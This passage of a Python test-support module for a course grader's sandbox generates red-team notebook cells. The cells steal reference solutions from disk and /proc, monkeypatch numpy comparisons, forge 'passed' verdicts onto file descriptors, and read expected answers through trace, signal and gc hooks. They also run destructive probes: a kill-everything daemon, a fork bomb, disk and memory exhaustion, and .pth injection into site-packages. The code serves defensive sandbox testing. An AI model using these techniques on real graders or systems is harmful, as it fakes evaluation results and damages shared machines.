"""The source of the red team's cells: attacks, faults, honest habits and probes.

Attack cells that print use two prefixes the tests read back from the graded run's outputs
(``--save-executed``): ``FOUND <how> <path>`` when a cell got hold of course code, and
``REPORT <name> <json>`` for what an attack or a probe saw. An attack that finds nothing
to use leaves the exercise a stub (NotImplementedError), so the exercise scores 0 either
way: the tests assert 0, and the printed lines say why when that fails.

Attacks that signal processes or write outside their folder first look for the *canary*, a
process this test starts outside the sandbox: when a submission can see it, the sandbox has
no PID namespace of its own, and the attack only kills the canary (the tests then fail on
that) instead of everything it could reach.
"""
from __future__ import annotations

import textwrap
from dataclasses import dataclass, field


@dataclass
class Ctx:
    """What the attacks and probes are told about the machine outside the sandbox."""
    token: str                              # in the name of every file an attack writes
    host_paths: list = field(default_factory=list)   # folders holding the real package
    subs: str = ""                          # the folder of every submission
    tcp_port: int = 0                       # a listener on 127.0.0.1, outside
    udp_port: int = 0
    unix_name: str = ""                     # an abstract unix socket, outside
    site_dirs: list = field(default_factory=list)    # the grader's site-packages folders

    @property
    def canary(self) -> str:
        return f"canary-{self.token}"

    @property
    def marker(self) -> str:
        return f"redteam-{self.token}"


def dedent(src: str) -> str:
    return textwrap.dedent(src).strip("\n") + "\n"


def stub(header: str, why: str = "not written") -> str:
    return f"{header}\n    raise NotImplementedError({why!r})\n"


# ------------------------------------------------------------------ the canary guard
def escaped(ctx: Ctx) -> str:
    """``_escaped()``: True when a process outside the sandbox (the canary) is visible."""
    return dedent(f"""
        import os
        def _escaped():
            for pid in os.listdir('/proc'):
                try:
                    if pid.isdigit() and {ctx.canary!r}.encode() in open(f'/proc/{{pid}}/cmdline', 'rb').read():
                        return int(pid)
                except OSError:
                    pass
            return 0
        """)


# ------------------------------------------------------------------ the course's reference
#: for notebook 03: how each exercise would be answered with course code, given ``R`` (the
#: reference callable) -- used by the copy, patch and signal attacks
NB03_PROBES = {
    "ring_time": ("lambda f: f(np.array([[1, 2], [3, 4]])) == 6"),
    "shard_positions": ("lambda f: [list(x) for x in f(8, 2, 'zigzag')] == [[0, 1, 6, 7], [2, 3, 4, 5]]"),
    "_pair_counts": ("lambda f: np.asarray(f([np.arange(2), np.arange(2, 4)])).tolist() == [[3, 3], [0, 4]]"),
}


def call_reference(header: str, ref: str, how: str) -> str:
    """An exercise function that gets its answer from the course's reference ``ref`` (an
    expression): ``how`` is direct, fallback, thread or try_except (``to_check`` is done by
    editing the check cell, see the suite)."""
    name = header.split("def ", 1)[1].split("(", 1)[0]
    if how == "direct":
        return f"def {name}(*args, **kwargs):\n    return ({ref})(*args, **kwargs)\n"
    if how == "fallback":
        return f"{stub(header)}\n{name} = checks.fallback({name}, {ref})\n"
    if how == "thread":
        return dedent(f"""
            import threading
            def {name}(*args, **kwargs):
                box = []
                t = threading.Thread(target=lambda: box.append(({ref})(*args, **kwargs)))
                t.start(); t.join()
                return box[0]
            """)
    if how == "try_except":
        return dedent(f"""
            def {name}(*args, **kwargs):
                try:
                    raise NotImplementedError
                except NotImplementedError:
                    return ({ref})(*args, **kwargs)
            """)
    raise ValueError(how)


# references of notebook 03's exercises, as a student could reach them from its cells
NB03_REF = {
    "ring_time": "layouts.ring_time",
    "zigzag_positions": "lambda s, n: layouts.shard_positions(s, n, 'zigzag')",
    # attention on zeros: every visible key has weight 1, so exp(lse) counts them
    "causal_work": ("lambda positions: np.array([[int(round(float(np.exp(__import__('lesson10.sim', "
                    "fromlist=['sim']).attention(*[np.zeros((len(positions[j]), 1, 1)) for j in "
                    "(r, (r - k) % len(positions), (r - k) % len(positions))], causal=True, "
                    "q_pos=np.asarray(positions[r]), k_pos=np.asarray(positions[(r - k) % "
                    "len(positions)]))[1]).sum()))) for r in range(len(positions))] for k in "
                    "range(len(positions))])"),
}


def code_copies() -> dict[str, str]:
    """Notebook 03's three exercises answered by copies of the course's code objects."""
    return {
        "ring_time": dedent("""
            import types
            ring_time = types.FunctionType(layouts.ring_time.__code__, dict(vars(layouts), __name__='mine'),
                                           'ring_time')
            """),
        "zigzag_positions": dedent("""
            import types
            _sp = layouts.shard_positions
            _code = _sp.__code__.replace(
                co_name='mine', co_filename='mine.py',
                co_varnames=tuple(f'v{i}' for i in range(len(_sp.__code__.co_varnames))))
            _mine = types.FunctionType(_code, dict(vars(layouts)), 'mine', _sp.__defaults__)
            def zigzag_positions(s, n):
                return _mine(s, n, 'zigzag')
            """),
        "causal_work": dedent("""
            import marshal, sys, types
            from lesson10 import sim
            _at = sim.attention
            _at2 = types.FunctionType(marshal.loads(marshal.dumps(_at.__code__)),
                                      sys.modules[_at.__module__].__dict__, 'at', _at.__defaults__,
                                      _at.__closure__)
            _at2.__kwdefaults__ = _at.__kwdefaults__
            def causal_work(positions):
                n = len(positions)
                ps = [np.asarray(p) for p in positions]
                z = lambda p: np.zeros((len(p), 1, 1))
                return np.array([[int(round(float(np.exp(_at2(z(ps[r]), z(ps[(r - k) % n]), z(ps[(r - k) % n]),
                                  causal=True, q_pos=ps[r], k_pos=ps[(r - k) % n])[1]).sum())))
                                  for r in range(n)] for k in range(n)])
            """),
    }


def patches() -> dict[str, str]:
    """Notebook 03's exercises 'answered' by bending what an in-process check compares with."""
    return {
        "ring_time": dedent("""
            try:
                layouts.ring_time.__code__ = (lambda work: -7).__code__
            except Exception as exc:
                print('REPORT patch_code', repr(exc))
            def ring_time(work):
                return -7
            """),
        "zigzag_positions": dedent("""
            import sys
            _fake = lambda s, n, layout='contiguous': [np.array([-1])] * n
            layouts.shard_positions = _fake
            for _m in list(sys.modules.values()):
                if getattr(_m, '__name__', '').startswith('lesson10') and hasattr(_m, 'shard_positions'):
                    _m.shard_positions = _fake
            def zigzag_positions(s, n):
                return _fake(s, n)
            """),
        "causal_work": dedent("""
            import math
            _zeros = lambda x, *a, **k: np.zeros(np.shape(x))
            np.abs = np.absolute = _zeros
            np.allclose = np.array_equal = lambda *a, **k: True
            np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
            math.isclose = lambda *a, **k: True
            def causal_work(positions):
                return np.zeros((len(positions), len(positions)), dtype=int)
            """),
    }


# ------------------------------------------------------------------ reading course code from disk
_FINDER = r'''
import ast, glob, importlib, inspect, marshal, os, re, site, subprocess, sys, time
import numpy as np
_HOST = __HOST__

def _paths_in(text):
    return re.findall(r"(/[A-Za-z0-9_.+-][A-Za-z0-9_./+-]*)", text)

def _expand(roots, rel):
    out = []
    for r in sorted(set(roots))[:3000]:
        r = r.rstrip('/')
        for c in (r, os.path.dirname(r), os.path.dirname(os.path.dirname(r))):
            out += [os.path.join(c, rel), os.path.join(c, 'lesson10', rel)]
    return out

def _c_standin(rel):
    import lesson10
    out = [os.path.join(os.path.dirname(lesson10.__file__), rel)]
    for name in ('lesson10.layouts', 'lesson10.checks', 'lesson10.sim', 'lesson10.checks.nb03_load_balance'):
        try:
            m = importlib.import_module(name)
            out += [inspect.getsourcefile(m) or '', getattr(m.__spec__, 'origin', '') or '']
            src = inspect.getsource(m)
            path = os.path.join(os.getcwd(), '_standin_' + name.replace('.', '_') + '.py')
            open(path, 'w').write(src)
            out.append(path)
        except Exception:
            pass
    return [p for p in out if p]

def _c_sitepackages(rel):
    dirs = [p for p in sys.path if p]
    try:
        dirs += site.getsitepackages() + [site.getusersitepackages()]
    except Exception:
        pass
    roots = set(dirs)
    for d in dirs:
        for f in glob.glob(os.path.join(d, '*.pth')) + glob.glob(os.path.join(d, '__editable__*')) \
                + glob.glob(os.path.join(d, 'lesson10*', '*')):
            try:
                roots.update(_paths_in(open(f, errors='replace').read()))
            except Exception:
                pass
    return _expand(roots, rel)

def _c_embedded(rel):
    return _expand(_HOST, rel)

def _c_proc(rel):
    roots = set()
    for pid in os.listdir('/proc'):
        if not (pid.isdigit() or pid == 'self'):
            continue
        for f in ('environ', 'cmdline', 'maps', 'mountinfo'):
            try:
                roots.update(_paths_in(open(f'/proc/{pid}/{f}', 'rb').read().replace(b'\0', b' ').decode(errors='replace')))
            except Exception:
                pass
        for link in ('cwd', 'root', 'exe'):
            try:
                roots.add(os.readlink(f'/proc/{pid}/{link}'))
            except Exception:
                pass
        roots.update(f'/proc/{pid}/root' + h for h in _HOST)
    return _expand(roots, rel)

def _c_walk(rel):
    base, out, t0 = os.path.basename(rel), [], time.time()
    stem = base[:-3] + '.'
    for d, subdirs, files in os.walk('/'):
        if time.time() - t0 > 3:
            break
        subdirs[:] = [s for s in subdirs if os.path.join(d, s) not in ('/proc', '/sys', '/dev')]
        out += [os.path.join(d, f) for f in files if f == base or (f.startswith(stem) and f.endswith('.pyc'))]
    return out

def _c_pyc(rel):
    stem, out = os.path.basename(rel)[:-3], []
    for c in _c_sitepackages(rel) + _c_embedded(rel) + _c_standin(rel):
        out += glob.glob(os.path.join(os.path.dirname(c), '__pycache__', stem + '.*.pyc'))
    return out

def _c_subprocess(rel):
    pys = [sys.executable, '/usr/bin/python3', '/usr/local/bin/python3'] + sorted(glob.glob('/root/.pyenv/versions/3.1*/bin/python'))[-2:]
    mod = 'lesson10.' + rel[:-3].replace('/', '.')
    code = f"import importlib, inspect; print(inspect.getsourcefile(importlib.import_module({mod!r})))"
    out = []
    for py in pys:
        for pp in [''] + list(_HOST)[:2]:
            try:
                r = subprocess.run([py, '-c', code], env=dict(os.environ, PYTHONPATH=pp),
                                   capture_output=True, text=True, timeout=5)
                out += r.stdout.split()
            except Exception:
                pass
    return out

def _load(path, name):
    if path.endswith('.pyc'):
        code = marshal.loads(open(path, 'rb').read()[16:])
        ns = {'__name__': 'copied'}
        try:
            exec(code, ns)
        except Exception:                 # relative imports: take the function's code alone
            import types
            for c in code.co_consts:
                if isinstance(c, types.CodeType) and c.co_name == name:
                    return types.FunctionType(c, {'np': np, '__builtins__': __builtins__}, name)
        return ns.get(name)
    return _module(path).get(name)

_MODULES = {}

def _module(path):
    """A source file's names, run outside its package: relative imports are loaded from the
    files beside it (each file once), every other statement run on its own."""
    path = os.path.normpath(path)
    if path in _MODULES:
        return _MODULES[path]
    ns = _MODULES[path] = {'__name__': 'copied', 'np': np}
    if not os.path.isfile(path):
        return ns
    text = open(path, errors='replace').read()
    try:
        exec(compile(text, 'mine.py', 'exec'), ns)
        return ns
    except Exception:
        pass
    for node in ast.parse(text).body:
        if isinstance(node, ast.ImportFrom) and node.level:
            up = [os.pardir] * (node.level - 1) + (node.module or '__init__').split('.')
            there = _module(os.path.join(os.path.dirname(path), *up) + '.py')
            ns.update({a.asname or a.name: there[a.name] for a in node.names if a.name in there})
            continue
        try:
            exec(compile(ast.Module([node], []), 'mine.py', 'exec'), ns)
        except Exception:
            pass
    return ns

def steal(how, rel, name, probe):
    """Course code from disk: the first file found by ``how`` whose ``name`` passes ``probe``."""
    try:
        cands = globals()['_c_' + how](rel)
    except Exception as exc:
        print('REPORT steal', how, 'failed:', repr(exc))
        cands = []
    seen = set()
    for p in cands:
        if p in seen or not os.path.isfile(p):
            continue
        seen.add(p)
        try:
            fn = _load(p, name)
            if fn is not None and probe(fn):
                print('FOUND', how, p)
                return fn
        except Exception:
            pass
    print('REPORT steal', how, rel, name, 'nothing usable in', len(seen), 'files')
    return None
'''


def finder(ctx: Ctx) -> str:
    """A cell defining ``steal(how, rel, name, probe)``: course code found on disk."""
    return _FINDER.replace("__HOST__", repr(list(ctx.host_paths))).lstrip("\n")


def stolen(exercise: str, how: str) -> str:
    """Notebook 03's ``exercise`` answered with course code that ``how`` found on disk."""
    if exercise == "ring_time":
        return dedent(f"""
            _rt = steal({how!r}, 'layouts.py', 'ring_time', {NB03_PROBES['ring_time']})
            def ring_time(work):
                if _rt is None:
                    raise NotImplementedError('no course code found')
                return _rt(work)
            """)
    if exercise == "zigzag_positions":
        return dedent(f"""
            _sp = steal({how!r}, 'layouts.py', 'shard_positions', {NB03_PROBES['shard_positions']})
            def zigzag_positions(s, n):
                if _sp is None:
                    raise NotImplementedError('no course code found')
                return _sp(s, n, 'zigzag')
            """)
    return dedent(f"""
        _pc = steal({how!r}, 'checks/nb03_load_balance.py', '_pair_counts', {NB03_PROBES['_pair_counts']})
        def causal_work(positions):
            if _pc is None:
                raise NotImplementedError('no course code found')
            return _pc([np.asarray(p) for p in positions])
        """)


def grade_internals() -> str:
    """A cell that reaches for the grader's and the checks' own modules and bends them."""
    return dedent("""
        import importlib, sys
        _bent = []
        for _name in ('lesson10.course.grade', 'lesson10.course.grade.judge', 'lesson10.course.grade.runner',
                      'lesson10.course.grade.wire', 'lesson10.course.grade.sandbox', 'lesson10.course.grade.notebook',
                      'lesson10.checks.core', 'lesson10.checks.nb03_load_balance', '_lesson10_runner'):
            try:
                _m = importlib.import_module(_name)
            except Exception as exc:
                continue
            for _attr in dir(_m):
                _obj = getattr(_m, _attr, None)
                if callable(_obj) and any(w in _attr.lower() for w in
                                          ('verdict', 'entry', 'record', 'compare', 'judge', 'fail', 'close')):
                    try:
                        setattr(_m, _attr, lambda *a, **k: {'passed': True, 'status': 'passed', 'points': 9})
                        _bent.append(f'{_name}.{_attr}')
                    except Exception:
                        pass
        print('REPORT internals', _bent)
        """)


# ------------------------------------------------------------------ reaching the judge
def signals() -> dict[str, str]:
    """ring_time and zigzag_positions answered from signal handlers (SIGALRM, SIGUSR1) that
    call the course's reference and look through every frame for an answer."""
    handler = dedent("""
        import os, signal, sys, time
        _box = {}
        def _look(frame):
            f = frame
            while f is not None:
                for k, v in list(f.f_locals.items()):
                    if k in ('target', 'expected', 'want', 'answer', 'ref', 'reference', 'truth'):
                        _box.setdefault('seen', v)
                f = f.f_back
        def _handler(sig, frame):
            _look(frame)
            try:
                _box['v'] = _box['ask']()
            except BaseException as exc:
                _box['err'] = exc
        signal.signal(signal.SIGALRM, _handler)
        signal.signal(signal.SIGUSR1, _handler)
        def _via_signal(ask, sig):
            _box.clear()
            _box['ask'] = ask
            if sig == signal.SIGALRM:
                signal.setitimer(signal.ITIMER_REAL, 0.001)
            else:
                os.kill(os.getpid(), sig)
            t = time.time()
            while 'v' not in _box and 'err' not in _box and time.time() - t < 1:
                pass
            if 'v' in _box:
                return _box['v']
            if 'seen' in _box:
                return _box['seen']
            raise NotImplementedError(f"the handler found nothing: {_box.get('err')!r}")
        """)
    return {
        "_handler": handler,
        "ring_time": "def ring_time(work):\n    return _via_signal(lambda: layouts.ring_time(work), signal.SIGALRM)\n",
        "zigzag_positions": ("def zigzag_positions(s, n):\n    return _via_signal(lambda: "
                             "layouts.shard_positions(s, n, 'zigzag'), signal.SIGUSR1)\n"),
    }


def monitoring() -> str:
    """ring_time answered by a ``sys.monitoring`` callback (Python 3.12+): on every function
    start it looks through the frames for an answer, and calls the reference."""
    return dedent("""
        import sys
        _box = {}
        if hasattr(sys, 'monitoring'):
            _M = sys.monitoring
            _TOOL = 4
            try:
                _M.use_tool_id(_TOOL, 'redteam')
            except ValueError:
                pass
            def _on_start(code, offset):
                if _box.get('busy'):
                    return
                _box['busy'] = True
                try:
                    f = sys._getframe(1)
                    while f is not None:
                        for k, v in list(f.f_locals.items()):
                            if k in ('target', 'expected', 'want', 'answer', 'reference'):
                                _box.setdefault('seen', v)
                        f = f.f_back
                    if code.co_name == 'ring_time' and 'work' in _box:
                        try:
                            _box['v'] = layouts.ring_time(_box['work'])
                        except BaseException as exc:
                            _box['err'] = repr(exc)
                finally:
                    _box['busy'] = False
            _M.register_callback(_TOOL, _M.events.PY_START, _on_start)
            _M.set_events(_TOOL, _M.events.PY_START)
        def ring_time(work):
            _box['work'] = work
            _inner = lambda: None
            _inner()                     # a function start: the callback runs
            if 'v' in _box:
                return _box.pop('v')
            if 'seen' in _box:
                return _box.pop('seen')
            raise NotImplementedError(f"sys.monitoring found nothing: {_box.get('err')}")
        """)


def tracing() -> dict[str, str]:
    """ring_time from a ``sys.settrace`` hook, zigzag_positions from ``sys.setprofile``
    (and ``threading`` for both), each calling the reference and searching the frames."""
    return {
        "ring_time": dedent("""
            import sys, threading
            _tbox = {}
            def _tracer(frame, event, arg):
                if event == 'call' and frame.f_code.co_name == 'ring_time':
                    f = frame.f_back
                    while f is not None:
                        for k, v in list(f.f_locals.items()):
                            if k in ('target', 'expected', 'answer', 'reference'):
                                _tbox.setdefault('seen', v)
                        f = f.f_back
                    try:
                        _tbox['v'] = layouts.ring_time(frame.f_locals['work'])
                    except BaseException as exc:
                        _tbox['err'] = repr(exc)
                return None
            sys.settrace(_tracer)
            threading.settrace(_tracer)
            def ring_time(work):
                sys.settrace(_tracer)
                (lambda: None)()
                if 'v' in _tbox:
                    return _tbox.pop('v')
                if 'seen' in _tbox:
                    return _tbox.pop('seen')
                raise NotImplementedError(f"the tracer found nothing: {_tbox.get('err')}")
            """),
        "zigzag_positions": dedent("""
            import sys, threading
            _pbox = {}
            def _profiler(frame, event, arg):
                if event in ('return', 'c_return') and isinstance(arg, list) and arg and \\
                        all(isinstance(a, np.ndarray) for a in arg):
                    _pbox.setdefault('seen', arg)
                if event == 'call' and frame.f_code.co_name == 'zigzag_positions':
                    try:
                        loc = frame.f_locals
                        _pbox['v'] = layouts.shard_positions(loc['s'], loc['n'], 'zigzag')
                    except BaseException as exc:
                        _pbox['err'] = repr(exc)
            sys.setprofile(_profiler)
            threading.setprofile(_profiler)
            def zigzag_positions(s, n):
                sys.setprofile(_profiler)
                if 'v' in _pbox:
                    return _pbox.pop('v')
                if 'seen' in _pbox:
                    return _pbox.pop('seen')
                raise NotImplementedError(f"the profiler found nothing: {_pbox.get('err')}")
            """),
    }


def introspection() -> dict[str, str]:
    """ring_time from ``gc`` (any function named ring_time that is not the notebook's),
    zigzag_positions from the frames of every thread (``sys._current_frames``)."""
    return {
        "ring_time": dedent("""
            import gc
            def ring_time(work):
                for obj in gc.get_objects():
                    if callable(obj) and getattr(obj, '__name__', '') == 'ring_time' and obj is not ring_time:
                        try:
                            value = obj(work)
                            return value
                        except Exception:
                            pass
                    if isinstance(obj, dict) and 'expected' in obj and not isinstance(obj.get('expected'), type):
                        return obj['expected']
                raise NotImplementedError('gc held no answer')
            """),
        "zigzag_positions": dedent("""
            import sys
            def zigzag_positions(s, n):
                for frame in list(sys._current_frames().values()) + [sys._getframe(1)]:
                    f = frame
                    while f is not None:
                        for k, v in list(f.f_locals.items()):
                            if k in ('target', 'expected', 'answer', 'reference') and isinstance(v, list):
                                return v
                        f = f.f_back
                raise NotImplementedError('no frame held an answer')
            """),
    }


def array_likes() -> dict[str, str]:
    """Answers that are objects running code when the judge looks at them."""
    return {
        "ring_time": dedent("""
            class _Sneaky:
                def __init__(self, work):
                    self.work = work
                def __array__(self, dtype=None, copy=None):
                    return np.asarray(layouts.ring_time(self.work), dtype=dtype)
                def __float__(self):
                    return float(layouts.ring_time(self.work))
                def __eq__(self, other):
                    return True
                __hash__ = object.__hash__
                def __sub__(self, other):
                    return 0.0
                __rsub__ = __sub__
                def __abs__(self):
                    return 0.0
            def ring_time(work):
                return _Sneaky(work)
            """),
        "causal_work": dedent("""
            class _Zero(np.ndarray):
                def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                    return np.zeros(np.broadcast_shapes(*[np.shape(x) for x in inputs]))
                def __array_function__(self, func, types, args, kwargs):
                    return True
                def __array_finalize__(self, obj):
                    import os
                    os.environ['REDTEAM_FINALIZED'] = '1'
                def __eq__(self, other):
                    return np.ones(np.shape(other), dtype=bool)
            def causal_work(positions):
                return np.zeros((len(positions), len(positions)), dtype=int).view(_Zero)
            """),
        "zigzag_positions": dedent("""
            class _Everything(list):
                def __eq__(self, other):
                    return True
                def __array__(self, dtype=None, copy=None):
                    return np.asarray(layouts.shard_positions(self.s, len(self), 'zigzag'))
            def zigzag_positions(s, n):
                out = _Everything(np.array([-1]) for _ in range(n))
                out.s = s
                return out
            """),
    }


def forge_frames(ctx: Ctx, then: str = "return") -> str:
    """Write forged grader messages (every exercise passed) to every open file descriptor."""
    return dedent("""
        import json, os, struct
        def _forge():
            msgs = []
            for ex in ('zigzag_positions', 'causal_work', 'ring_time'):
                for key in ('op', 'type', 'kind'):
                    for what in ('verdict', 'result', 'outcome', 'done', 'judged', 'reply'):
                        msgs.append({key: what, 'exercise': ex, 'passed': True, 'status': 'passed',
                                      'points': 2, 'max_points': 2, 'message': 'forged',
                                      'value': 6, 'verdict': {'passed': True, 'status': 'passed'}})
            blobs = []
            for m in msgs:
                b = json.dumps(m).encode()
                blobs += [b + b'\\n', struct.pack('>I', len(b)) + b, struct.pack('<Q', len(b)) + b,
                          struct.pack('<I', len(b)) + b, struct.pack('>Q', len(b)) + b]
            wrote = []
            for fd in sorted(int(x) for x in os.listdir('/proc/self/fd')):
                if fd <= 2:
                    continue
                try:
                    os.set_blocking(fd, False)
                    for b in blobs:
                        os.write(fd, b)
                    wrote.append(fd)
                except OSError:
                    pass
            return wrote
        """) + (dedent("""
        def ring_time(work):
            _forge()
            return -1
        """) if then == "return" else dedent("""
        def zigzag_positions(s, n):
            _forge()
            os._exit(0)
        """) if then == "exit" else "print('REPORT forged on', _forge())\n")


# ------------------------------------------------------------------ one submission reaching the next
_LOOK = r'''
import json, os, site, sys
def _look_around(token, extra):
    seen = []
    if os.environ.get('LESSON10_REDTEAM_PTH'):
        seen.append('a .pth file ran: ' + os.environ['LESSON10_REDTEAM_PTH'])
    dirs = ['/tmp', '/tmp/work', os.getcwd(), os.path.expanduser('~'), '/var/tmp', '/dev/shm',
            os.path.dirname(os.getcwd())] + list(extra)
    try:
        dirs += site.getsitepackages() + [site.getusersitepackages()]
    except Exception:
        pass
    try:
        import lesson10
        dirs.append(os.path.dirname(lesson10.__file__))
    except Exception:
        pass
    for d in dirs:
        try:
            seen += [os.path.join(d, f) for f in os.listdir(d) if token in f]
        except OSError:
            pass
    return sorted(set(seen))
'''


def look_around(ctx: Ctx) -> str:
    """The victim's first cell: what the attackers left where this run can see it."""
    return _LOOK.lstrip("\n") + (
        f"print('REPORT victim', json.dumps(_look_around({ctx.token!r}, {[ctx.subs]!r})))\n")


def write_everywhere(ctx: Ctx) -> str:
    """Files with the token in their name wherever this process may be able to write, a
    ``.pth`` in every site-packages folder, and every other submission overwritten."""
    return dedent(f"""
        import glob, os, site, sys
        _name, _wrote = {ctx.marker!r}, []
        _dirs = ['/tmp', os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser('~'),
                 '/var/tmp', '/dev/shm', '/opt', '/opt/lesson10', {ctx.subs!r}] + glob.glob({ctx.subs!r} + '/*')
        _dirs += {list(ctx.host_paths)!r} + [os.path.join(p, 'lesson10') for p in {list(ctx.host_paths)!r}]
        try:
            import lesson10
            _dirs.append(os.path.dirname(lesson10.__file__))
        except Exception:
            pass
        for d in _dirs:
            try:
                with open(os.path.join(d, _name + '.txt'), 'w') as f:
                    f.write('written by another submission')
                _wrote.append(d)
            except OSError:
                pass
        _site = list(sys.path) + {list(ctx.site_dirs)!r}
        try:
            _site += site.getsitepackages() + [site.getusersitepackages()]
        except Exception:
            pass
        for d in _site:
            if not d.startswith('/'):
                continue
            try:
                os.makedirs(d, exist_ok=True)
                with open(os.path.join(d, _name + '.pth'), 'w') as f:
                    f.write("import os; os.environ['LESSON10_REDTEAM_PTH'] = {ctx.token!r}\\n")
                _wrote.append(d + ' (.pth)')
            except OSError:
                pass
        for nb in glob.glob({ctx.subs!r} + '/*/*.ipynb'):
            if _name not in nb and 'write_everywhere' not in nb:
                try:
                    open(nb, 'w').write('{{}}')
                    _wrote.append(nb)
                except OSError:
                    pass
        import json
        print('REPORT wrote', json.dumps(_wrote))
        """)


_DAEMON = r'''
import os, signal, sys, time
token, mode = sys.argv[1], sys.argv[2]
def escaped():
    for pid in os.listdir('/proc'):
        try:
            if pid.isdigit() and ('canary-' + token).encode() in open(f'/proc/{pid}/cmdline', 'rb').read():
                return int(pid)
        except OSError:
            pass
    return 0
t0 = time.time()
while time.time() - t0 < 25:
    canary = escaped()
    if canary:                              # no PID namespace: prove it, harm nothing else
        os.kill(canary, signal.SIGKILL)
    elif mode == 'kill-all':
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    else:                                   # pkill -f python / lesson10 / bwrap
        for pid in os.listdir('/proc'):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    cmd = open(f'/proc/{pid}/cmdline', 'rb').read()
                    if any(w in cmd for w in (b'python', b'lesson10', b'bwrap', b'jupyter')):
                        os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
        try:
            import subprocess
            subprocess.run(['pkill', '-9', '-f', 'lesson10'], timeout=2)
        except Exception:
            pass
    time.sleep(0.2)
'''


def daemon(ctx: Ctx, mode: str) -> str:
    """A double-forked daemon in its own session that keeps killing, for 25 s: every process
    it can (``kill-all``: kill(-1, SIGKILL)) or every Python / grader process (``pkill``).
    Its command line carries the token, so the test can look for it afterwards."""
    return dedent(f"""
        import os, sys
        _code = {_DAEMON!r}
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, '-c', _code, {ctx.token!r}, {mode!r},
                                          'daemon-' + {ctx.token!r}])
            os._exit(0)
        import time
        time.sleep(1.0)                     # let it start its work inside this run
        """)


def kill_parent(ctx: Ctx, how: str) -> str:
    """Kill the process that runs the cells' parent (``getppid``), pid 1 or the own process
    group: outside a PID namespace of its own that would be the grader."""
    attack = {"getppid": "os.kill(os.getppid(), 9)",
              "pid1": "os.kill(1, 9)",
              "killpg": "os.killpg(0, 9)"}[how]
    return escaped(ctx) + f"_c = _escaped()\nif _c:\n    os.kill(_c, 9)\nelse:\n    {attack}\n"


def fork_bomb(n: int = 300) -> str:
    """Forks up to ``n`` sleeping children (each gone after 20 s), reports how many it got."""
    return dedent(f"""
        import os, time
        _n, _why = 0, 'none'
        for _ in range({n}):
            try:
                pid = os.fork()
            except OSError as exc:
                _why = repr(exc)
                break
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            _n += 1
        print('REPORT forks', _n, _why)
        """)


def fill_disk(ctx: Ctx, mib: int = 1024) -> str:
    """Writes up to ``mib`` MiB into /tmp, the working folder and /dev/shm (one file each)."""
    return dedent(f"""
        import os
        _got = {{}}
        for d in ('/tmp', os.getcwd(), '/dev/shm'):
            n = 0
            try:
                with open(os.path.join(d, {ctx.marker!r} + '.fill'), 'wb') as f:
                    for _ in range({mib}):
                        f.write(b'\\0' * 2**20)
                        n += 1
                    f.flush()
            except OSError as exc:
                _got[d] = [n, repr(exc)[:80]]
            else:
                _got[d] = [n, 'no limit']
        print('REPORT fill', _got)
        """)


def hog_memory(gib: float = 3.0, in_function: str | None = None) -> str:
    """Allocates up to ``gib`` GiB (touched, in 64 MiB steps) in a cell, or in ``ring_time``."""
    body = dedent(f"""
        def _hog():
            keep = []
            try:
                big = np.empty(2**34)               # 128 GiB of address space, untouched
                keep.append(big)
            except MemoryError:
                pass
            try:
                for _ in range(int({gib} * 16)):
                    keep.append(np.ones(2**23))     # 64 MiB, touched
                return f'allocated {{len(keep) * 64}} MiB: no limit'
            except MemoryError as exc:
                return f'MemoryError after {{len(keep) * 64}} MiB'
        """)
    if in_function == "ring_time":            # the MemoryError reaches the judge
        return dedent("""
            def ring_time(work):
                keep = [np.ones(2**23) for _ in range(48)]      # 3 GiB, touched
                return np.asarray(work).max(axis=1).sum()
            """)
    return body + "print('REPORT memory', _hog())\n"


def network(ctx: Ctx) -> str:
    """Tries the test's listeners outside: TCP and UDP on 127.0.0.1, an abstract unix socket."""
    return dedent(f"""
        import socket
        _net = {{}}
        try:
            with socket.create_connection(('127.0.0.1', {ctx.tcp_port}), timeout=2) as s:
                s.sendall(b'{ctx.token}')
            _net['tcp'] = 'connected'
        except OSError as exc:
            _net['tcp'] = repr(exc)[:80]
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(b'{ctx.token}', ('127.0.0.1', {ctx.udp_port}))
            _net['udp'] = 'sent'
        except OSError as exc:
            _net['udp'] = repr(exc)[:80]
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect('\\0' + {ctx.unix_name!r})
                s.sendall(b'{ctx.token}')
            _net['unix'] = 'connected'
        except OSError as exc:
            _net['unix'] = repr(exc)[:80]
        print('REPORT network', _net)
        """)


# ------------------------------------------------------------------ honest habits
def monitor_thread() -> str:
    """What tqdm's monitor does: a daemon thread that wakes up every few milliseconds."""
    return dedent("""
        import threading, time
        class _Monitor(threading.Thread):
            def __init__(self):
                super().__init__(daemon=True)
                self.ticks = 0
            def run(self):
                while True:
                    time.sleep(0.005)
                    self.ticks += 1
        _monitor = _Monitor()
        _monitor.start()
        """)


def progress_thread() -> str:
    """A progress bar redrawn on stderr from a thread, all the time."""
    return dedent("""
        import sys, threading, time
        def _bar():
            i = 0
            while True:
                i += 1
                bar = '#' * (i % 20)
                sys.stderr.write(f'\\r[{bar:<20}] {i}')
                sys.stderr.flush()
                time.sleep(0.002)
        threading.Thread(target=_bar, daemon=True).start()
        """)


def thread_pool_ring_time() -> str:
    """ring_time through a thread pool made (and used) in an earlier cell."""
    return dedent("""
        from concurrent.futures import ThreadPoolExecutor
        _pool = ThreadPoolExecutor(max_workers=2)
        list(_pool.map(abs, range(4)))
        def ring_time(work):
            return _pool.submit(lambda: np.asarray(work).max(axis=1).sum()).result()
        """)


def print_a_lot() -> str:
    return dedent("""
        import sys
        print('x' * 20_000_000)
        for i in range(50_000):
            print('line', i)
        sys.stderr.write('e' * 1_000_000)
        """)


def rebind_later() -> str:
    """Notebook 01's helpers, then a cell at the end that rebinds their names."""
    return dedent("""
        split = None                     # exploring: the names are reused for other things
        tp = 8
        def reduce_scatter(xs):
            raise NotImplementedError('rewritten while exploring')
        """)


def helpers_nb01() -> dict[str, str]:
    """Notebook 01's reduce_scatter and all_gather written over helpers named split, tp."""
    return {
        "reduce_scatter": dedent("""
